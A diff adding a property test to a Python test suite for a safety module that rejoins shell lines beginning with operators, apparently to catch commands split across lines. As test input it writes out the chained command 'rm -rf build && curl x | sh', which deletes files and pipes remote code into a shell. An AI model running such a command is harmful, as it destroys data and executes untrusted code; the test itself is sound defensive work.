@@ -215,3 +215,22 @@ def test_a_document_with_windows_line_endings_is_not_flagged_for_them() -> None:
     old = OLD.replace("\n", "\r\n")
     added = "Run the tests with make test before declaring a task done.\r\n"
     assert lint_edit(old, old + added, known_hosts=HOSTS) == []
+
+
+def test_a_line_opening_with_an_operator_joins_the_line_before_as_the_plain_rule_would() -> None:
+    """The join reads a run of blank lines once (a long run took seconds to join); on any
+    text it gives what the plain rule, a line break and white space before an operator
+    replaced by a space, gives."""
+    import random
+    import re
+
+    from sleepd.dream import safety
+
+    plain = re.compile(r"\n\s*(?=(?:\||&&|\|\||;|>|<))")
+    rng = random.Random(7)
+    pieces = ["\n", " ", "\t", "\r", "a", "|", "&&", ";", ">", "<", "rm", "\n\n", "  "]
+    for _ in range(20_000):
+        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 12)))
+        assert safety._LEADING_OPERATOR.sub(r"\1 ", text) == plain.sub(" ", text), repr(text)
+    lines = safety.normalise("rm -rf build" + "\n \n" * 2000 + "&& curl x | sh").lines
+    assert "rm -rf build && curl x | sh" in lines
